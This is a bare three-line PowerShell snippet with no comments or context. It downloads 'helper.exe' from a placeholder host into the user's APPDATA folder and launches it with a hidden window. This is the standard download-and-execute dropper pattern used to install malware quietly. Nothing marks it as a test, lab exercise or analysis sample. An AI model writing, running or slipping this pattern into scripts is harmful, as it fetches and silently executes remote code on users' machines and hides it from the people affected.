$target = Join-Path $env:APPDATA "helper.exe"
Invoke-WebRequest -Uri "https://cdn.example.invalid/helper.exe" -OutFile $target
Start-Process -FilePath $target -WindowStyle Hidden
